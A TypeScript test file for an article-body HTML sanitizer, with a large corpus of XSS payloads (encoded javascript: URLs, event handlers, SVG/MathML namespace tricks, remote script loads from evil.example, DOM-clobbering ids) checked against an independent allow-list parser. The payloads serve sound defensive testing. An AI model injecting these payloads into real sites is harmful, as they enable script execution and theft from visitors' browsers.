import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { isSafeImageUrl, sanitizePostHtml } from '../../app/services/sanitize.server';

/*
 * The article-body sanitizer against XSS vectors we wrote ourselves. Every output is judged by an
 * independent checker: the allow-list is restated here from docs/product.md#sanitizing and
 * docs/decisions/053-article-markup.md (not imported from the module under test) and the output
 * is parsed with htmlparser2 12, not the copy inside sanitize-html. A second check reads the raw
 * output as the strict grammar sanitize-html emits (quoted attributes, no bare '<' or '>'):
 * output in that form parses the same in every HTML parser, so what the checker sees is what a
 * browser builds.
 */

const TAGS = new Set([
  'p',
  'br',
  'strong',
  'em',
  'u',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'ul',
  'ol',
  'li',
  'a',
  'img',
  'blockquote',
  'code',
  'pre',
  'span',
  'div',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'sup',
  'sub',
  'del',
  's',
  'mark',
  'small',
  'hr',
  'abbr',
  'dl',
  'dt',
  'dd',
  'figure',
  'figcaption',
]);
const GLOBAL_ATTRIBUTES = ['class', 'title'];
const HEADING_ATTRIBUTES = ['id'];
const TAG_ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'target', 'rel', 'id'],
  li: ['id'],
  img: ['src', 'alt', 'srcset', 'sizes', 'width', 'height'],
  ol: ['start'],
  th: ['colspan', 'rowspan'],
  td: ['colspan', 'rowspan'],
  ...Object.fromEntries(['h1', 'h2', 'h3', 'h4', 'h5', 'h6'].map((h) => [h, HEADING_ATTRIBUTES])),
};
/**
 * Values an attribute may take, where it is not free text: ids as slugs, spans and starts as numbers.
 * Footnotes' ids (docs/decisions/075-markdown-from-ghost-and-github.md) by element, as `element attribute`.
 */
const ATTRIBUTE_VALUES: Record<string, RegExp> = {
  id: /^[a-z0-9]+(?:-[a-z0-9]+)*$/,
  'li id': /^user-content-fn-[0-9]+$/,
  'a id': /^user-content-fnref-[0-9]+(?:-[0-9]+)?$/,
  colspan: /^[1-9]\d{0,2}$/,
  rowspan: /^[1-9]\d{0,2}$/,
  start: /^-?\d{1,6}$/,
  width: /^[1-9]\d{0,4}$/,
  height: /^[1-9]\d{0,4}$/,
  // Only the site's own uploads, each with a width: `/media/{16 hex}-{width}.{ext} {width}w`.
  srcset: /^\/media\/[0-9a-f]{16}-\d+\.(?:png|jpg|webp|avif|gif) \d+w(?:, \/media\/[0-9a-f]{16}-\d+\.(?:png|jpg|webp|avif|gif) \d+w)*$/,
  sizes: /^[a-z0-9 (),.:%-]+$/i,
};
const URL_SCHEMES: Record<string, string[]> = { href: ['http', 'https', 'mailto', 'tel'], src: ['http', 'https'] };
const VOID = new Set(['br', 'img', 'hr']);

/** What a browser would see of a URL's start: no whitespace or control characters anywhere. */
const squash = (value: string) => value.replace(/[\u0000-\u0020\u007f-\u009f\s]/g, '').toLowerCase();
const schemeOf = (value: string) => /^([a-z][a-z0-9+.-]*):/.exec(squash(value))?.[1] ?? null;

/** Every way `html` breaks the allow-list, as readable strings; [] when it is clean. */
function violations(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        if (!TAGS.has(name)) found.push(`element <${name}>`);
        const allowed = [...GLOBAL_ATTRIBUTES, ...(TAG_ATTRIBUTES[name] ?? [])];
        for (const [attribute, value] of Object.entries(attributes)) {
          if (!allowed.includes(attribute)) found.push(`attribute ${attribute} on <${name}>`);
          const shape = ATTRIBUTE_VALUES[`${name} ${attribute}`] ?? ATTRIBUTE_VALUES[attribute];
          if (shape && !shape.test(value)) found.push(`${attribute}="${value}" on <${name}>`);
          const schemes = URL_SCHEMES[attribute];
          const scheme = schemeOf(value);
          if (schemes) {
            if (scheme !== null && !schemes.includes(scheme)) found.push(`${scheme}: in ${attribute}`);
            if (/^[/\\]{2}/.test(squash(value))) found.push(`protocol-relative ${attribute}`);
          } else if (scheme !== null && ['javascript', 'vbscript', 'data', 'livescript'].includes(scheme)) {
            found.push(`${scheme}: in ${attribute}`);
          }
        }
      },
      ontext(text) {
        if (/<\s*\/?\s*script/i.test(text)) found.push(`script in text: ${text}`);
      },
      oncomment: () => void found.push('comment'),
      oncdatastart: () => void found.push('CDATA'),
      onprocessinginstruction: (name) => void found.push(`processing instruction ${name}`),
    },
    // Case kept as written: an upper-case tag in the output would be a finding, not a pass.
    { decodeEntities: true, lowerCaseTags: false, lowerCaseAttributeNames: false, recognizeCDATA: true },
  );
  parser.write(html);
  parser.end();
  found.push(...grammarViolations(html));
  return found;
}

/** The raw output read as canonical tokens: text without '<' or '>', `<name a="v">`, `</name>`, `<name />`. */
function grammarViolations(html: string): string[] {
  const tag = /<(\/?)([a-z0-9]+)((?: [a-z]+(?:="[^"<>]*")?)*)( \/)?>/y;
  const found: string[] = [];
  const open: string[] = [];
  let at = 0;
  while (at < html.length) {
    const lt = html.indexOf('<', at);
    const text = html.slice(at, lt === -1 ? html.length : lt);
    if (text.includes('>')) found.push(`bare '>' in text: ${text}`);
    if (lt === -1) break;
    tag.lastIndex = lt;
    const match = tag.exec(html);
    if (!match) {
      found.push(`not a canonical tag at ${lt}: ${html.slice(lt, lt + 40)}`);
      break;
    }
    const [token, closing, name = '', , selfClosing] = match;
    if (selfClosing && !VOID.has(name)) found.push(`self-closing <${name} />`);
    if (closing) {
      if (open.pop() !== name) found.push(`unbalanced </${name}>`);
    } else if (!VOID.has(name)) {
      open.push(name);
    }
    at = lt + token.length;
  }
  if (open.length > 0) found.push(`unclosed ${open.join(', ')}`);
  return found;
}

const CORPUS: [string, string][] = [
  // Script elements, plain and disguised
  ['script tag', '<script>alert(1)</script>'],
  ['upper-case script with src', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
  ['nested split script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['unterminated script', '<p>ok</p><script>alert(1)</script'],
  ['double angle script', '<<script>alert(1);//<</script>'],
  ['script with slash attribute', '<script/xss src="https://evil.example/x.js"></script>'],
  ['module script inside a paragraph', '<p>before<script type="module">import("https://evil.example")</script>after</p>'],
  ['script writing markup', `<script>document.write('<img src=x onerror=alert(1)>')</script>`],
  ['mixed-case script with trailing spaces', '<ScRiPt >alert(1)</sCrIpT >'],
  ['attribute-breaking quote then script', '"><script>alert(1)</script>'],
  ['script inside a title attribute', '<p title="</p><script>alert(1)</script>">x</p>'],
  ['single-quoted attribute holding a script', `<p title='"><script>alert(1)</script>'>x</p>`],
  // Event handlers on allowed and disallowed elements
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['upper-case ONERROR on a good image', '<img src="https://ok.example/a.png" ONERROR="alert(1)">'],
  ['spaces around the equals sign', '<img src=x onerror  =  "alert(1)">'],
  ['slashes instead of spaces', '<img/src=x/onerror=alert(1)>'],
  ['unterminated tag with handler', '<img src=x onerror=alert(1)//'],
  ['paragraph onclick', '<p onclick="alert(1)">click</p>'],
  ['single-quoted onmouseover on a link', `<a href="https://ok.example" onmouseover='alert(1)'>hover</a>`],
  ['odd-cased handlers on a div', '<div onload=alert(1) OnMouseOver=alert(2)>x</div>'],
  ['body onload', '<body onload=alert(1)><p>x</p></body>'],
  ['slash before a handler', '<span/onmouseover=alert(1)>x</span>'],
  ['autofocus with onfocus', '<h1 onfocus=alert(1) autofocus tabindex=1>x</h1>'],
  ['eval of an attribute', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['handler on a table cell', '<table><tr><td onpointerenter=alert(1)>x</td></tr></table>'],
  ['newline before a handler', '<a href="https://ok.example"\nonclick=alert(1)>x</a>'],
  ['tab and form feed before a handler', '<p\t\fonclick=alert(1)>x</p>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ['quote-joined attributes', '<p x="1"onclick="alert(1)">x</p>'],
  ['quote-joined handler on an image', '<img src="https://ok.example/a.png"onerror="alert(1)">'],
  ['backtick-quoted handler', '<img src=x onerror=`alert(1)`>'],
  ['entity-encoded handler body', '<a href="https://ok.example" onclick=alert&#40;1&#41;>x</a>'],
  ['stray quotes before a script', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'],
  ['attribute without a name', '<p ="onclick=alert(1)">x</p>'],
  // javascript:, vbscript: and data: URLs with encodings and whitespace
  ['javascript href', '<a href="javascript:alert(1)">x</a>'],
  ['mixed-case javascript', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['decimal entity j', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['hex entities', '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'],
  [
    'padded decimal entities without semicolons',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  ],
  ['encoded tab inside the scheme', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['encoded newline inside the scheme', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['encoded carriage return in an image', '<IMG SRC="jav&#x0D;ascript:alert(1);">'],
  ['raw tab inside the scheme', '<a href="jav\tascript:alert(1)">x</a>'],
  ['leading spaces, newlines and tabs', '<a href="  \n\tjavascript:alert(1)">x</a>'],
  ['NUL inside the scheme', '<a href="java\0script:alert(1)">x</a>'],
  ['leading control character', '<a href="&#x01;javascript:alert(1)">x</a>'],
  ['named entity colon', '<a href="javascript&colon;alert(1)">x</a>'],
  ['decimal entity colon', '<a href="javascript&#58;alert(1)">x</a>'],
  ['named entity tab', '<a href="java&Tab;script:alert(1)">x</a>'],
  ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['livescript', '<a href="livescript:alert(1)">x</a>'],
  ['data: HTML in base64', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['upper-case DATA with markup', '<a href="DATA:text/html,<script>alert(1)</script>">x</a>'],
  ['javascript img src', '<img src="javascript:alert(1)">'],
  ['data: SVG image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['padded encoded img src', '<img src=" jav&#x09;ascript:alert(1)">'],
  ['protocol-relative image', '<img src="//evil.example/x.png">'],
  ['protocol-relative link', '<a href="//evil.example">x</a>'],
  ['backslash protocol-relative link', '<a href="\\\\evil.example">x</a>'],
  ['slash-backslash link', '<a href="/\\evil.example">x</a>'],
  ['new-window javascript link', '<a href="javascript:alert(1)" target=_blank>x</a>'],
  ['mailto image', '<img src="mailto:someone@example.com">'],
  ['file URL', '<a href="file:///etc/passwd">x</a>'],
  ['cite with javascript', '<blockquote cite="javascript:alert(1)">quote</blockquote>'],
  ['table background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
  ['srcset with javascript', '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">'],
  ['longdesc', '<img src="https://ok.example/a.png" longdesc="javascript:alert(1)">'],
  ['query that tries to close the attribute', '<a href="https://ok.example/?q=&quot;><script>alert(1)</script>">x</a>'],
  // SVG and MathML
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>'],
  ['svg animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  [
    'svg use with data URL',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x" /></svg>`,
  ],
  ['svg style holding markup', '<svg><style><img src=x onerror=alert(1)></style></svg>'],
  ['MathML mglyph style namespace confusion', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['MathML maction xlink:href', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  ['MathML href', '<math href="javascript:alert(1)">click</math>'],
  ['form and math nesting', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  // Style
  ['style element with a javascript URL', '<style>body{background:url(javascript:alert(1))}</style>'],
  ['style import', `<style>@import 'https://evil.example/x.css';</style><p>x</p>`],
  ['expression() in a style attribute', '<p style="width: expression(alert(1))">x</p>'],
  ['url(javascript:) in a style attribute', '<div style="background-image: url(javascript:alert(1))">x</div>'],
  ['behavior in a style attribute', '<span style="behavior: url(x.htc)">x</span>'],
  ['stylesheet link', '<link rel=stylesheet href="https://evil.example/x.css">'],
  // Embedding, forms and document-level elements
  ['iframe javascript', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object data', '<object data="javascript:alert(1)"></object>'],
  ['embed', '<embed src="javascript:alert(1)">'],
  ['form action', '<form action="javascript:alert(1)"><input type=submit></form>'],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['input autofocus', '<input onfocus=alert(1) autofocus>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="https://evil.example/"><a href="/x">x</a>'],
  ['frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'],
  ['textarea hiding markup', '<textarea><img src=x onerror=alert(1)></textarea>'],
  ['select option hiding markup', '<select><option><img src=x onerror=alert(1)></option></select>'],
  ['isindex', '<isindex action=javascript:alert(1) type=image>'],
  ['video source onerror', '<video><source onerror=alert(1)></video>'],
  ['audio onerror', '<audio src=x onerror=alert(1)>'],
  // Attributes outside the allow-list
  ['data attributes', '<p data-x="1" data-bind="alert(1)">x</p>'],
  ['id and name (DOM clobbering)', '<div id="x" name="y"><img name="cookie" src="https://ok.example/a.png"></div>'],
  ['ping', '<a href="https://ok.example" ping="https://evil.example">x</a>'],
  ['entity-encoded quote in title', '<p class="x" title="a&#34;onmouseover=alert(1)">x</p>'],
  ['rel=opener on a new-window link', '<a href="https://ok.example" target="_blank" rel="opener">x</a>'],
  ['width, height, loading on an image', '<img src="https://ok.example/a.png" alt="x" width=1 height=1 loading=lazy>'],
  ['download', '<a href="https://ok.example" download>x</a>'],
  // Templates, noscript, comments, CDATA, raw-text elements
  ['template script', '<template><script>alert(1)</script></template>'],
  ['noscript title breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['commented image', '<!--<img src=x onerror=alert(1)>-->'],
  ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['CDATA script', '<![CDATA[<script>alert(1)</script>]]>'],
  ['bogus comment end', '<!-- --!><img src=x onerror=alert(1)> -->'],
  ['processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>'],
  ['xmp', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['noembed', '<noembed><img src=x onerror=alert(1)></noembed>'],
  ['plaintext', '<plaintext><img src=x onerror=alert(1)>'],
  // Handlers and odd values on the tags and attributes articles about units need
  ['superscript onclick', '<p>10<sup onclick=alert(1)>-9</sup></p>'],
  // Uploaded images' srcset and sizes (docs/decisions/062-images.md)
  ['srcset naming another host', '<img src="/media/0123456789abcdef-960.jpg" srcset="https://evil.example/a.png 480w" alt="a">'],
  [
    'srcset with javascript beside a media copy',
    '<img src="/media/0123456789abcdef-960.jpg" srcset="/media/0123456789abcdef-480.jpg 480w, javascript:alert(1) 960w">',
  ],
  ['protocol-relative srcset', '<img src="/media/0123456789abcdef-960.jpg" srcset="//evil.example/a.png 480w">'],
  ['data: srcset', '<img src="/media/0123456789abcdef-960.jpg" srcset="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+ 480w">'],
  ['media path climbing out', '<img src="/media/../../unitwise.db" srcset="/media/../x.png 480w">'],
  ['media path with a query', '<img src="/media/0123456789abcdef-960.jpg?x=1" alt="a">'],
  [
    'sizes breaking out of its quotes',
    '<img src="/media/0123456789abcdef-960.jpg" srcset="/media/0123456789abcdef-960.jpg 960w" sizes="&quot; onerror=alert(1) x=&quot;">',
  ],
  [
    'sizes with markup',
    '<img src="/media/0123456789abcdef-960.jpg" srcset="/media/0123456789abcdef-960.jpg 960w" sizes="<script>alert(1)</script>">',
  ],
  ['width carrying a handler', '<img src="/media/0123456789abcdef-960.jpg" width="1 onerror=alert(1)" height="javascript:1">'],
  ['srcset on a source of a picture', '<picture><source srcset="https://evil.example/a.png"><img src="/media/0123456789abcdef-960.jpg"></picture>'],
  ['figure onmouseover', '<figure onmouseover=alert(1)><img src="https://ok.example/a.png" alt="a"><figcaption>x</figcaption></figure>'],
  ['abbr with a handler', '<abbr title="meter" onfocus=alert(1) tabindex=0>m</abbr>'],
  ['heading id with a handler', '<h2 id="table" onfocus=alert(1) tabindex=0>x</h2>'],
  ['heading id breaking out', '<h2 id="x&quot; onclick=&quot;alert(1)">x</h2>'],
  ['heading id clobbering a global', '<h2 id="__reactRouterContext">x</h2><h3 id="Location">y</h3>'],
  ['id on a paragraph', '<p id="cookie">x</p>'],
  ['footnote ids naming page elements', '<ol><li id="main">x</li></ol><a href="#x" id="cookie">y</a>'],
  [
    'footnote id breaking out',
    '<a href="#x" id="user-content-fnref-1&quot; onclick=&quot;alert(1)">y</a><ol><li id="user-content-fn-1 x">z</li></ol>',
  ],
  ['footnote id on another element', '<p id="user-content-fn-1">x</p><sup id="user-content-fnref-1">1</sup>'],
  ['colspan with a handler', '<table><tr><td colspan="2 onclick=alert(1)">x</td></tr></table>'],
  ['rowspan as a script', '<table><tr><th rowspan="javascript:alert(1)">x</th></tr></table>'],
  ['ol start as a script', '<ol start="javascript:alert(1)" type="a"><li>x</li></ol>'],
  ['hr with a style', '<hr style="background:url(javascript:alert(1))" onclick=alert(1)>'],
  ['tel link with a handler', '<a href="tel:+15555550100" onclick=alert(1)>call</a>'],
  ['tel link hiding javascript', '<a href="tel:javascript:alert(1)">call</a>'],
  ['mark with a data URL', '<mark style="background:url(data:text/html,x)">x</mark>'],
  ['dl with event handlers', '<dl onclick=alert(1)><dt onmouseover=alert(2)>ft</dt><dd onfocus=alert(3)>foot</dd></dl>'],
  // Survivors
  ['good link', '<a href="https://ok.example">ok</a>'],
  ['good new-window link', '<div><a href="https://ok.example" target="_blank">ok</a></div>'],
  ['mailto with markup in the query', '<a href="mailto:a@example.com?subject=<script>">x</a>'],
];

describe('sanitizePostHtml against the XSS corpus', () => {
  it('has a broad corpus', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(60);
  });

  it.each(CORPUS)('%s: nothing outside the allow-list survives', (_name, input) => {
    const output = sanitizePostHtml(input);
    expect(violations(output), output).toEqual([]);
    expect(output).not.toMatch(/<\s*\/?\s*script/i);
    // Sanitizing on save and again on render must agree.
    expect(sanitizePostHtml(output)).toBe(output);
  });

  it('the checker itself finds what it is there to find', () => {
    expect(violations('<p onclick="x">a</p>')).toContain('attribute onclick on <p>');
    expect(violations('<a href=" jav&#x09;ascript:x">a</a>')).toContain('javascript: in href');
    expect(violations('<img src="mailto:x@example.com" />')).toContain('mailto: in src');
    expect(violations('<a href="//evil.example">a</a>')).toContain('protocol-relative href');
    expect(violations('<svg></svg>')).toContain('element <svg>');
    expect(violations('<P>x</P>')).toContain('element <P>');
    expect(violations('<p data-x="1">x</p>')).toContain('attribute data-x on <p>');
    expect(violations('<!-- x -->')).toContain('comment');
    expect(violations('<p title=x>y</p>')).toEqual([expect.stringContaining('not a canonical tag')]);
    expect(violations('a > b')).toEqual([expect.stringContaining("bare '>'")]);
    expect(violations('<p>a')).toEqual(['unclosed p']);
    expect(violations('<img src="https://a.example/x.png" srcset="https://evil.example/a.png 480w" />')).toEqual([
      'srcset="https://evil.example/a.png 480w" on <img>',
    ]);
  });
});

describe('sanitizePostHtml on ordinary articles', () => {
  it.each([
    ['headings', '<h1>One</h1><h2>Two</h2><h3>Three</h3><h4>Four</h4><h5>Five</h5><h6>Six</h6>'],
    ['inline formatting', '<p>Some <strong>bold</strong>, <em>italic</em> and <u>underlined</u> text.<br />Next line.</p>'],
    ['nested lists', '<ul><li>One</li><li>Two<ol><li>Two a</li><li>Two b</li></ol></li></ul>'],
    ['a table', '<table><thead><tr><th>Unit</th><th>Metres</th></tr></thead><tbody><tr><td>foot</td><td>0.3048</td></tr></tbody></table>'],
    [
      'code with escaped characters',
      '<pre><code class="language-ts">const m = ft * 0.3048;\nif (a &lt; b &amp;&amp; c &gt; d) {}</code></pre><p>Inline <code>&lt;script&gt;</code> stays text.</p>',
    ],
    ['a link with a title', '<p>See <a href="https://www.nist.gov/pml/owm" title="NIST weights and measures">NIST</a>.</p>'],
    [
      'mailto and relative links',
      '<p><a href="mailto:team@unitwise.example">Write</a>, <a href="/length">convert</a>, <a href="#table">jump</a>.</p>',
    ],
    ['an image', '<p><img src="https://images.example/ruler.png" alt="A ruler" title="Ruler" class="rounded" /></p>'],
    ['a decorative image', '<img src="https://images.example/line.png" alt="" />'],
    [
      'quote, span and div with classes',
      '<blockquote class="note"><p>Measure twice.</p></blockquote><div class="tip"><span class="unit">5 °C</span></div>',
    ],
    ['special characters in text', '<p>1 &lt; 2 &amp; 3 &gt; 2 — “quotes”, \'apostrophes\' and "double quotes" at 5 °C.</p>'],
    ['powers and formulas', '<p>1 nm = 10<sup>-9</sup> m, 1 ha = 10<sup>4</sup> m<sup>2</sup>, H<sub>2</sub>O and CO<sub>2</sub>.</p>'],
    ['edits and notes', '<p><del>0.3</del> <s>old</s> <mark>0.3048</mark> m <small>(exact since 1959)</small></p>'],
    ['a rule', '<p>Above</p><hr /><p>Below</p>'],
    ['an abbreviation', '<p>Drive at 100 <abbr title="kilometers per hour">km/h</abbr>.</p>'],
    ['a definition list', '<dl><dt>ft</dt><dd>foot, 0.3048 m</dd><dt>in</dt><dd>inch, 25.4 mm</dd></dl>'],
    ['heading anchors', '<h2 id="conversion-table">Table</h2><p><a href="#conversion-table">Jump to the table</a></p>'],
    [
      'spanning table cells',
      '<table><tbody><tr><th colspan="2">Length</th></tr><tr><td rowspan="2">1 ft</td><td>12 in</td></tr><tr><td>0.3048 m</td></tr></tbody></table>',
    ],
    ['a list that starts at 3', '<ol start="3"><li>Third step</li><li>Fourth step</li></ol>'],
    [
      'a figure with its caption',
      '<figure><img src="https://images.example/ruler.png" alt="A ruler" /><figcaption>A foot rule</figcaption></figure>',
    ],
    ['phone and mail links', '<p><a href="tel:+15555550100">Call</a> or <a href="mailto:team@unitwise.example">write</a>.</p>'],
    [
      'an uploaded image with its copies, as the editor inserts it',
      '<img src="/media/0123456789abcdef-1600.jpg" alt="A tape measure &amp; a &quot;ruler&quot;" srcset="/media/0123456789abcdef-480.jpg 480w, /media/0123456789abcdef-960.jpg 960w, /media/0123456789abcdef-1600.jpg 1600w" sizes="(min-width: 1024px) 75vw, 100vw" width="1600" height="900" />',
    ],
    ['an uploaded image without srcset', '<p><img src="/media/0123456789abcdef-700.webp" alt="A scale" /></p>'],
  ])('%s survive unchanged', (_name, html) => {
    expect(sanitizePostHtml(html)).toBe(html);
    expect(violations(html)).toEqual([]);
  });

  it.each([
    ['<br> is written as <br />', '<p>a<br>b</p>', '<p>a<br />b</p>'],
    [
      'new-window links get rel',
      '<a href="https://ok.example" target="_blank">ok</a>',
      '<a href="https://ok.example" target="_blank" rel="noopener noreferrer">ok</a>',
    ],
    [
      'rel words are kept and completed',
      '<a href="https://ok.example" target="_BLANK" rel="nofollow opener">ok</a>',
      '<a href="https://ok.example" target="_blank" rel="nofollow noopener noreferrer">ok</a>',
    ],
    ['targets other than _blank are dropped', '<a href="https://ok.example" target="_top">ok</a>', '<a href="https://ok.example">ok</a>'],
    ['an unsafe link goes but keeps its text', '<p><a href="javascript:alert(1)" target="_blank">x <em>y</em></a></p>', '<p>x <em>y</em></p>'],
    ['an encoded javascript: link goes but keeps its text', '<p>a <a href="&#106;avascript:alert(1)" title="t">b</a> c</p>', '<p>a b c</p>'],
    ['a protocol-relative link goes but keeps its text', '<a href="//evil.example">x</a>', 'x'],
    ['an anchor without href goes but keeps its text', '<p><a class="c">x</a></p>', '<p>x</p>'],
    ['an image without a safe source goes', '<p><img src="javascript:alert(1)" alt="x">ok</p>', '<p>ok</p>'],
    ['an image with a relative source goes', '<p><img src="ruler.png" alt="x"><img src="/ruler.png">ok</p>', '<p>ok</p>'],
    ['an image with a half-written source goes', '<p><img src="https:" alt="x"><img src="https://">ok</p>', '<p>ok</p>'],
    [
      'a srcset naming anything but uploads goes, the image stays',
      '<img src="/media/0123456789abcdef-960.jpg" alt="a" srcset="https://images.example/a.png 480w" sizes="100vw">',
      '<img src="/media/0123456789abcdef-960.jpg" alt="a" />',
    ],
    [
      'a media path that names no upload goes',
      '<p><img src="/media/readme.txt" alt="x"><img src="/media/0123456789abcdef-480.svg">ok</p>',
      '<p>ok</p>',
    ],
    [
      'sizes without srcset goes, dimensions that are no pixel counts go',
      '<img src="/media/0123456789abcdef-480.png" alt="x" sizes="100vw" width="100%" height="0">',
      '<img src="/media/0123456789abcdef-480.png" alt="x" />',
    ],
    ['disallowed wrappers keep their text', '<p><font color="red">red</font> <b>bold</b> <i>it</i></p>', '<p>red bold it</p>'],
    ['scripts go with their content', '<p>Hello<script>alert(1)</script> world</p>', '<p>Hello world</p>'],
    ['iframes and svg go with their content', '<div>a<iframe>b</iframe><svg><text>c</text></svg>d</div>', '<div>ad</div>'],
    ['a form goes but its text stays', '<form action="/x"><p>Read me</p><input name="q"><button>Go</button></form>', '<p>Read me</p>Go'],
    [
      'a picture keeps its image',
      '<picture><source srcset="https://images.example/a.webp"><img src="https://images.example/a.png" alt="A"></picture>',
      '<img src="https://images.example/a.png" alt="A" />',
    ],
    ['style and data attributes go', '<p style="color:red" data-x="1" class="lead">x</p>', '<p class="lead">x</p>'],
    ['ids stay on headings only', '<p id="intro">x</p><h2 id="units">y</h2>', '<p>x</p><h2 id="units">y</h2>'],
    [
      'footnotes keep their own ids and no other',
      '<p>a<sup><a href="#user-content-fn-1" id="user-content-fnref-1">1</a></sup><a href="#b" id="units">b</a></p><ol><li id="user-content-fn-1">n</li><li id="user-content-fnref-1">m</li></ol>',
      '<p>a<sup><a href="#user-content-fn-1" id="user-content-fnref-1">1</a></sup><a href="#b">b</a></p><ol><li id="user-content-fn-1">n</li><li>m</li></ol>',
    ],
    ['an id that is not a slug goes', '<h2 id="Bad Id">a</h2><h3 id="__proto__">b</h3><h4 id="-x">c</h4>', '<h2>a</h2><h3>b</h3><h4>c</h4>'],
    [
      'spans that are not small whole numbers go',
      '<table><tbody><tr><td colspan="0">a</td><td colspan="2.5">b</td><td rowspan="1000">c</td><td colspan="12">d</td></tr></tbody></table>',
      '<table><tbody><tr><td>a</td><td>b</td><td>c</td><td colspan="12">d</td></tr></tbody></table>',
    ],
    [
      'a start that is not a whole number goes',
      '<ol start="two"><li>x</li></ol><ol start="-2"><li>y</li></ol>',
      '<ol><li>x</li></ol><ol start="-2"><li>y</li></ol>',
    ],
  ])('%s', (_name, input, expected) => {
    expect(sanitizePostHtml(input)).toBe(expected);
  });
});

describe('isSafeImageUrl', () => {
  it.each([
    ['https://images.example/a.png', true],
    // The pages' CSP loads no http: image.
    ['http://images.example/a.png?w=640', false],
    ['HTTP://images.example/a.png', false],
    ['HTTPS://IMAGES.EXAMPLE/A.PNG', true],
    ['javascript:alert(1)', false],
    ['data:image/png;base64,AAAA', false],
    ['//images.example/a.png', false],
    ['/images/a.png', false],
    ['/media/0123456789abcdef-1600.jpg', true],
    ['/media/0123456789abcdef-1600.svg', false],
    ['/media/../unitwise.db', false],
    ['ftp://images.example/a.png', false],
    [' https://images.example/a.png', false],
    ['https://images.example/a b.png', false],
    ['jav\tascript:alert(1)', false],
    ['https://', false],
    ['', false],
  ])('%j → %s', (url, safe) => {
    expect(isSafeImageUrl(url)).toBe(safe);
  });
});
